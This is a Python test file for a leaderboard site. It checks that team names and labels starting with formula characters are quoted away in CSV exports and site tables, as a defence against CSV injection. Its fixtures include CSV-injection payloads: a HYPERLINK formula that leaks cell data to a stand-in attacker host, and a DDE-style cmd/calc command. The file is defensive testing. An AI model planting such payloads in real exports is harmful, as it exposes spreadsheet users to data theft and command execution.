"""Issue #12: names people choose (teams, entries) leave the site spreadsheet-safe (OWASP, CSV injection).

A cell that starts with = + - @ tab or CR is a formula to Excel, LibreOffice and Sheets: the CSV export
quotes it away with a leading ', and puts every text cell in double quotes (a ; inside cannot start a
cell in a locale that splits on it). The tables' own CSV download (Streamlit's toolbar) gets the same.
"""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import sqlalchemy as sa
from gate_server import serving
from streamlit.testing.v1 import AppTest

from db.engine import create_schema, session_scope
from db.schema import Run, Team
from leaderboard.challenges import create_challenge
from leaderboard.gate_client import GATE_URL_ENV
from leaderboard.queries import leaderboard
from leaderboard.quota import submit
from leaderboard.site_data import (
    board_csv,
    board_json,
    spreadsheet_frame,
    spreadsheet_safe,
)
from leaderboard.tokens import create_team
from workers.datasets import held_test_labels

ROOT = Path(__file__).resolve().parents[1]
OPTIONS = {"num_classes": 10, "image_size": 8, "train_per_class": 1, "val_per_class": 1, "test_per_class": 5}
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"claim your prize")'
# Team names that are formulas, and one that would start a formula cell after a ';' split. (A name's
# leading blanks are stripped when the team is made; the unit tests below cover them.)
EVIL_TEAMS = [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "a;=1+2"]
EVIL_LABEL = "=1+1 (the official entry's label)"
LEADS = tuple("=+-@\t\r")


def predictions(seed: int) -> bytes:
    labels = held_test_labels("synthetic", OPTIONS)
    rng = np.random.default_rng(seed)
    lines = ["image_id,pred_1,pred_2,pred_3,pred_4,pred_5"]
    for image_id, label in labels.items():
        others = [c for c in rng.permutation(10).tolist() if c != label]
        guesses = others[:5] if rng.random() < 0.5 else [label, *others[:4]]
        lines.append(f"{image_id}," + ",".join(map(str, guesses)))
    return ("\n".join(lines) + "\n").encode()


def populate(url: str) -> None:
    create_challenge(url, "syn", "synthetic", OPTIONS, quota=5, public_fraction=1.0)
    with session_scope(url) as session:
        tokens = {name: create_team(session, name) for name in EVIL_TEAMS}
        create_team(session, "baselines", official=True)
        session.add(Run(job_id="job-1", suite="smoke", arch="resnet18", dataset="synthetic"))
    for i, name in enumerate(EVIL_TEAMS):
        submit(url, tokens[name], "syn", predictions(i), "p.csv", label="-- my entry")
    with session_scope(url) as session:
        baselines = session.scalar(sa.select(Team).where(Team.name == "baselines"))
    submit(url, baselines, "syn", predictions(99), "p.csv", label=EVIL_LABEL, run_id="job-1")


@pytest.fixture
def url(db_url: str) -> str:
    populate(db_url)
    return db_url


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "  =1+1",
                                  "＝1+1", HYPERLINK])
def test_a_formula_lead_gets_a_quote(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["resnet50", "", "a=b", "it's -1", "'=already quoted", 3.5, -2, None, True])
def test_anything_else_is_left_alone(value) -> None:
    assert spreadsheet_safe(value) == value


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_export_neutralises_formula_names(url: str) -> None:
    board = leaderboard(url, "syn", task="classification")
    assert set(board["team"]) == {*EVIL_TEAMS, "baselines"}  # the names are stored as given
    text = board_csv(board, "classification")
    rows = cells(text)
    assert sorted(r["team"] for r in rows) == sorted(["'" + n for n in EVIL_TEAMS[:4]] + ["a;=1+2", "baselines"])
    assert {r["model"] for r in rows if r["baseline"] == "True"} == {"'" + EVIL_LABEL}
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(LEADS) and not value.lstrip().startswith(LEADS), (column, value)
    # Every text cell in double quotes: the ';' team is one cell even where a spreadsheet splits on ';'.
    assert '"a;=1+2"' in text and f'"\'{HYPERLINK.replace(chr(34), chr(34) * 2)}"' in text
    # The numbers stay numbers.
    numbers = pd.read_csv(io.StringIO(text))
    assert pd.api.types.is_float_dtype(numbers["top5_err"]) and numbers["top5_err"].notna().all()


def test_the_detection_csv_export_neutralises_formula_names() -> None:
    board = pd.DataFrame({
        "rank": [1], "entry": [HYPERLINK], "team": ["@evil"], "baseline": [False],
        "map50": [0.5], "map50_lo": [0.4], "map50_hi": [0.6], "map_coco": [0.3], "params": [1e6], "flops": [1e9],
        "input_size": [224], "vs_leader": ["leader"], "submitted": [pd.Timestamp("2030-01-01", tz="UTC")],
        "run_id": [None],
    })
    row = cells(board_csv(board, "detection"))[0]
    assert row["model"] == "'" + HYPERLINK and row["team"] == "'@evil" and float(row["map50"]) == 50.0


def test_the_json_export_keeps_names_exact(url: str) -> None:
    """JSON is data for programs, not a spreadsheet's file: a name in it is the name, unquoted."""
    board = leaderboard(url, "syn", task="classification")
    entries = json.loads(board_json(board, {"slug": "syn", "task": "classification"}))["entries"]
    assert HYPERLINK in {e["team"] for e in entries}


def test_spreadsheet_frame_touches_only_text() -> None:
    frame = pd.DataFrame({"label": ["=x", "ok", None], "score": [-1.0, 0.5, None]})
    safe = spreadsheet_frame(frame)
    assert list(safe["label"][:2]) == ["'=x", "ok"] and safe["label"].isna()[2]
    assert list(safe["score"][:2]) == [-1.0, 0.5]
    assert list(frame["label"][:2]) == ["=x", "ok"]  # the input is left as it was
    assert list(spreadsheet_frame(frame, ("score",))["label"][:2]) == ["=x", "ok"]


def test_the_site_tables_show_the_names_spreadsheet_safe(sqlite_url: str, monkeypatch) -> None:
    """The board's and the Submit page's tables have Streamlit's own CSV download: their names are safe too."""
    url = create_schema(sqlite_url)
    populate(url)
    monkeypatch.setenv("CONVBENCH_DB", url)
    with serving(url) as gate:  # the Submit page signs in through the gate
        monkeypatch.setenv(GATE_URL_ENV, gate)
        check_site_tables(url)


def check_site_tables(url: str) -> None:
    app = AppTest.from_file(str(ROOT / "leaderboard" / "app.py"), default_timeout=60).run()
    assert not app.exception, app.exception
    shown = app.dataframe[0].value
    assert "'" + HYPERLINK in set(shown["team"]) and HYPERLINK not in set(shown["team"])
    assert not any(str(v).startswith(LEADS) for column in ("entry", "team") for v in shown[column])
    with session_scope(url) as session:
        token = create_team(session, "plain team")
    submit(url, token, "syn", predictions(7), "p.csv", label="@SUM(9)")
    app.switch_page("views/submit.py").run()
    app.text_input(key="token").input(token)
    next(b for b in app.button if b.label == "Show my submissions").click().run()
    assert not app.exception, app.exception
    assert list(app.dataframe[0].value["label"]) == ["'@SUM(9)"]
